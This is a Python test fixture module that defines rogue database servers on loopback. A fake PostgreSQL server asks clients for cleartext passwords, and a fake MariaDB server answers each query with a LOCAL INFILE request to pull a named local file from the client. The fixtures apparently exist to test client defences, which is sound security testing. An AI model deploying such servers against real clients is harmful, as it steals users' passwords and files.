"""Malicious database servers on loopback, with just enough protocol to request secrets."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Callable
from types import TracebackType
from typing import Self

SECONDS = 10.0


class StubServer:
    """A server that records the data of clients; each connection has a timeout of a few seconds."""

    scheme = ""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._accept_clients, daemon=True).start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, _kind: type[BaseException] | None, _: object, _trace: TracebackType | None) -> None:
        self._listener.close()

    def login_url(self, login: str = "ana", options: str = "") -> str:
        return f"{self.scheme}://{login}@127.0.0.1:{self.port}/quality{options}"

    @property
    def received_bytes(self) -> bytes:
        """The data of all clients."""
        return b"".join(self.received)

    def serve_client(self, connection: socket.socket) -> None:
        raise NotImplementedError

    def read_exactly(self, connection: socket.socket, size: int) -> bytes:
        data = b""
        while len(data) < size:
            part = connection.recv(size - len(data))
            if not part:
                raise ConnectionError
            self.received.append(part)
            data += part
        return data

    def _accept_clients(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            connection.settimeout(SECONDS)
            threading.Thread(
                target=self._serve_safely, args=(connection, self.serve_client), daemon=True
            ).start()

    @staticmethod
    def _serve_safely(connection: socket.socket, serve: Callable[[socket.socket], None]) -> None:
        with connection:
            try:
                serve(connection)
            except OSError:
                return


class PasswordThief(StubServer):
    """A PostgreSQL server that requests the password in clear text and then rejects the client."""

    scheme = "postgresql"

    def serve_client(self, connection: socket.socket) -> None:
        while True:
            (size,) = struct.unpack("!I", self.read_exactly(connection, 4))
            start = self.read_exactly(connection, size - 4)
            # Requests for TLS or GSSAPI precede the startup message.
            if struct.unpack("!I", start[:4])[0] not in (80877103, 80877104):
                break
            connection.sendall(b"N")
        connection.sendall(struct.pack("!cII", b"R", 8, 3))
        kind, size = struct.unpack("!cI", self.read_exactly(connection, 5))
        self.read_exactly(connection, size - 4)
        text = b"SFATAL\0C28P01\0Mno: " + kind + b"\0\0"
        connection.sendall(struct.pack("!cI", b"E", len(text) + 4) + text)


class FileThief(StubServer):
    """A MariaDB server that accepts all clients and responds to each statement with a file request."""

    scheme = "mariadb"

    def __init__(self, file_name: str) -> None:
        super().__init__()
        self._file_name = file_name.encode()

    def serve_client(self, connection: socket.socket) -> None:
        # Capabilities of real servers, including LOCAL INFILE, but without TLS and other logins.
        capabilities = 0x00000001 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000
        greeting = b"\x0a5.5.5-10.11.6-MariaDB\0" + struct.pack("<I", 1) + b"12345678\0"
        greeting += struct.pack("<HBHHB", capabilities & 0xFFFF, 45, 2, capabilities >> 16, 21)
        greeting += bytes(10) + b"123456789012\0" + b"mysql_native_password\0"
        self._send_packet(connection, 0, greeting)
        number, _ = self._read_packet(connection)
        self._send_packet(connection, number + 1, _OK)
        while True:
            number, command = self._read_packet(connection)
            # PyMySQL ignores the response to its first statement.
            if command[:1] != b"\x03" or b"SET NAMES" in command:
                self._send_packet(connection, number + 1, _OK)
                continue
            self._send_packet(connection, number + 1, b"\xfb" + self._file_name)
            number, content = self._read_packet(connection)
            while content:
                number, content = self._read_packet(connection)
            self._send_packet(connection, number + 1, _OK)

    @staticmethod
    def _send_packet(connection: socket.socket, number: int, payload: bytes) -> None:
        connection.sendall(struct.pack("<I", len(payload))[:3] + bytes([number & 0xFF]) + payload)

    def _read_packet(self, connection: socket.socket) -> tuple[int, bytes]:
        head = self.read_exactly(connection, 4)
        return head[3], self.read_exactly(connection, int.from_bytes(head[:3], "little"))


_OK = b"\0\0\0\x02\0\0\0"
